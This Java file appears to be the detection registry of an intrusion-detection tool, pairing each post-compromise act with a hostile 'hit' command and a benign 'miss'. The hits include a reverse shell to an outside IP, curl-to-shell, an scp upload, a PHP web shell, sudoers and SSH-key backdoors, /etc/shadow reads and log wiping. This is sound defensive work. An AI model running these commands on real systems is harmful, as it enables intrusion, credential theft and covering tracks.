package dwell.detect;

import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;

/**
 * The registry: every sign and every act of weight with what it means, in the order of {@link Sign}
 * and {@link ActKind}. A test reads each line of {@code hit} and {@code miss} and holds the answer
 * against the entry.
 */
public final class Detections {
  private static final Map<ActKind, Detection> BY_KIND = new EnumMap<>(ActKind.class);

  static {
    put(
        ActKind.SCANNING,
        "A scanner run from inside",
        "Whoever knows the network need not scan it.",
        "Inventory and security teams.",
        "nmap -sS 192.0.2.0/24",
        "ping 192.0.2.1");
    put(
        ActKind.SETUID_SEARCH,
        "Search for set-user-id programs",
        "A way to root by a program that forgot to give it up.",
        "Hardening audits.",
        "find / -perm -4000 -type f",
        "find / -type f -name core");
    put(
        ActKind.SETUID_SET,
        "A program made set-user-id",
        "Whoever runs it later is its owner.",
        "Installation of the few programs that need it, from packages.",
        "chmod u+s /tmp/x",
        "chmod 755 /tmp/x");
    put(
        ActKind.ACCOUNT_CREATED,
        "An account made",
        "A way back that outlives the password it began with.",
        "New colleagues and services.",
        "useradd -m ops2",
        "userdel ops2");
    put(
        ActKind.GROUP_GIVEN,
        "A group given to an account",
        "Groups such as sudo, wheel and docker are root.",
        "New colleagues.",
        "usermod -aG sudo ops2",
        "usermod -c 'Ops' ops2");
    put(
        ActKind.KEY_ADDED,
        "A key added to an account",
        "Opens the account whatever its password becomes.",
        "New machines of its owner; configuration management.",
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x' >> ~/.ssh/authorized_keys",
        "cat ~/.ssh/authorized_keys");
    put(
        ActKind.CRON_WRITTEN,
        "A cron job written",
        "Runs again after every clean-up that misses it.",
        "Administration.",
        "echo '* * * * * root /opt/x' > /etc/cron.d/x",
        "cat /etc/crontab");
    put(
        ActKind.JOB_QUEUED,
        "A job queued with at",
        "Runs after its author is gone.",
        "Maintenance windows.",
        "echo /opt/x | at now + 1 hour",
        "at -l");
    put(
        ActKind.UNIT_WRITTEN,
        "A systemd unit written or enabled",
        "Starts with the host.",
        "Installation of services.",
        "systemctl enable updater.service",
        "systemctl status updater.service");
    put(
        ActKind.RC_FILE_WRITTEN,
        "A shell start file changed",
        "Runs whenever the account logs in.",
        "People who adapt their shell.",
        "echo '/tmp/x &' >> ~/.bashrc",
        "cat ~/.bashrc");
    put(
        ActKind.PRELOAD_WRITTEN,
        "ld.so.preload written",
        "A library of the author's choice in every program: how rootkits hide.",
        "Hardly any.",
        "echo /lib/x.so > /etc/ld.so.preload",
        "cat /etc/ld.so.preload");
    put(
        ActKind.SUDOERS_WRITTEN,
        "sudoers changed",
        "Rights that need no further break-in.",
        "Administration with visudo.",
        "echo 'x ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x",
        "sudo -l");
    put(
        ActKind.PAM_WRITTEN,
        "PAM changed",
        "A module decides who gets in, and sees every password.",
        "Directory integration.",
        "cp pam_x.so /lib/security/pam_x.so",
        "cat /etc/pam.d/sshd");
    put(
        ActKind.WEB_SHELL_WRITTEN,
        "A script written where the web server runs scripts",
        "Commands by way of a web request.",
        "Deployments by hand.",
        "echo '<?php system($_GET[0]);' > /var/www/html/a.php",
        "cat /var/www/html/a.php");
    put(
        ActKind.PASSWORD_FILE_READ,
        "The password hashes read",
        "They can be guessed offline, unseen.",
        "Migrations of accounts.",
        "cat /etc/shadow",
        "cat /etc/passwd");
    put(
        ActKind.PRIVATE_KEY_READ,
        "A private key read",
        "It opens every host that trusts it.",
        "Its owner; renewal of certificates.",
        "cat /home/eve/.ssh/id_rsa",
        "cat /home/eve/.ssh/id_rsa.pub");
    put(
        ActKind.KEY_SEARCH,
        "Search for private keys",
        "Its owner knows where a key lies.",
        "Audits.",
        "find / -name 'id_*'",
        "find / -name '*.log'");
    put(
        ActKind.PASSWORD_SEARCH,
        "Search for passwords in files",
        "Settings and scripts hold those of databases.",
        "Developers who look for a setting.",
        "grep -ri password /var/www",
        "grep -ri colour /var/www");
    put(
        ActKind.STORED_PASSWORD_READ,
        "A file with stored passwords read",
        "The next step into the database.",
        "Developers and administrators of the application.",
        "cat /var/www/app/config.php",
        "cat /var/www/app/index.php");
    put(
        ActKind.HISTORY_READ,
        "Another's history read",
        "Passwords typed by mistake, and hosts worth a visit.",
        "Hardly any.",
        "cat /home/eve/.bash_history",
        "cat /home/eve/notes");
    put(
        ActKind.DATABASE_ACCOUNT_CREATED,
        "A database account made",
        "A way back into the data.",
        "New applications.",
        "CREATE USER x",
        "SELECT 1");
    put(
        ActKind.DATABASE_HASHES_READ,
        "The database's password hashes read",
        "They can be guessed offline.",
        "Database administration tools.",
        "SELECT user, authentication_string FROM mysql.user",
        "SELECT user()");
    put(
        ActKind.DATABASE_DUMPED,
        "A database dumped",
        "Everything at once.",
        "Backups.",
        "mysqldump shop",
        "mysqladmin status");
    put(
        ActKind.STAGED,
        "Data put together in a file",
        "What is packed is to leave.",
        "Backups and migrations.",
        "mysqldump shop > /tmp/a.sql",
        "ls > /tmp/a.txt");
    put(
        ActKind.FILE_SENT,
        "A file sent to another host",
        "Data leaves.",
        "Backups and migrations.",
        "scp /tmp/a.gz x@198.51.100.7:",
        "scp x@198.51.100.7:a.gz /tmp/");
    put(
        ActKind.DOWNLOAD_RUN,
        "A download run unseen",
        "Whoever holds the far side decides what runs.",
        "Installers that ask for it.",
        "curl http://198.51.100.7/x | sh",
        "curl http://198.51.100.7/x | less");
    put(
        ActKind.REVERSE_SHELL,
        "A shell that calls out",
        "Commands by way of an outgoing connection, past the firewall.",
        "Hardly any.",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "ssh 198.51.100.7");
    put(
        ActKind.DECODED_RUN,
        "Hidden code decoded and run",
        "Nobody hides honest code.",
        "Some installers.",
        "echo aWQK | base64 -d | sh",
        "echo aWQK | base64 -d");
    put(
        ActKind.HIDDEN_PROGRAM_RUN,
        "A program run from a passing or hidden place",
        "Nothing is installed in /tmp.",
        "Installers that unpack there.",
        "/tmp/.x/run",
        "/usr/bin/run");
    put(
        ActKind.DATABASE_PROGRAM_RUN,
        "A program run by the database",
        "The database's account becomes the attacker's.",
        "Hardly any.",
        "COPY t FROM PROGRAM 'id'",
        "COPY t FROM STDIN");
    put(
        ActKind.LOG_CLEARED,
        "A log emptied",
        "Logs of logins are emptied by nobody who has nothing to hide.",
        "Full disks, for other logs.",
        "truncate -s 0 /var/log/auth.log",
        "tail /var/log/auth.log");
    put(
        ActKind.HISTORY_CLEARED,
        "The shell's history emptied or switched off",
        "It would tell.",
        "People who typed a password by mistake.",
        "history -c",
        "history");
    put(
        ActKind.TIMES_FORGED,
        "A file's times forged",
        "So that it seems older than it is.",
        "Build tools.",
        "touch -r /bin/ls /tmp/x",
        "touch /tmp/x");
    put(
        ActKind.LOGGING_STOPPED,
        "A logging service stopped",
        "What follows is not recorded.",
        "Maintenance.",
        "systemctl stop auditd",
        "systemctl status auditd");
    put(
        ActKind.FIREWALL_OPENED,
        "The firewall opened",
        "Lets in what it kept out.",
        "Administration.",
        "iptables -F",
        "iptables -L");
    put(
        ActKind.HIDDEN_FILE,
        "A hidden file outside of a home",
        "Meant to be overlooked.",
        "Lock files of some programs.",
        "echo x > /tmp/.x",
        "echo x > /tmp/x");
    put(
        ActKind.FILE_PRINTED,
        "A staged file printed into a session",
        "It leaves over the session's own connection.",
        "Copies by hand.",
        "",
        "");
  }

  private Detections() {}

  private static void put(
      ActKind kind, String title, String reason, String falsePositives, String hit, String miss) {
    List<String> techniques = new ArrayList<>();
    techniques.add(kind.technique());
    if (kind.formerTechnique() != null) {
      techniques.add(kind.formerTechnique());
    }
    BY_KIND.put(
        kind,
        new Detection(
            kind.name().toLowerCase(Locale.ROOT).replace('_', '-'),
            title,
            level(kind),
            techniques,
            reason,
            falsePositives,
            hit,
            miss));
  }

  private static String level(ActKind kind) {
    return switch (kind.weight()) {
      case 0 -> "informational";
      case 1 -> "low";
      case 2 -> "medium";
      case 3 -> "high";
      default -> "critical";
    };
  }

  /** The detection of that sign. */
  public static Detection of(Sign sign) {
    return new Detection(
        sign.name().toLowerCase(Locale.ROOT).replace('_', '-'),
        sign.title(),
        sign.level(),
        List.of(sign.technique()),
        sign.reason(),
        sign.falsePositives(),
        "",
        "");
  }

  /** The detection of that id; empty where there is none. */
  public static Optional<Detection> byId(String id) {
    return all().stream().filter(detection -> detection.id().equals(id)).findFirst();
  }

  /** All, in order. */
  public static List<Detection> all() {
    List<Detection> all = new ArrayList<>();
    for (Sign sign : Sign.values()) {
      all.add(of(sign));
    }
    all.addAll(BY_KIND.values());
    return List.copyOf(all);
  }

  /**
   * The detection of that act.
   *
   * @throws IllegalArgumentException where the act has no weight and so no detection
   */
  public static Detection of(ActKind kind) {
    Detection detection = BY_KIND.get(kind);
    if (detection == null) {
      throw new IllegalArgumentException("no detection for " + kind);
    }
    return detection;
  }
}
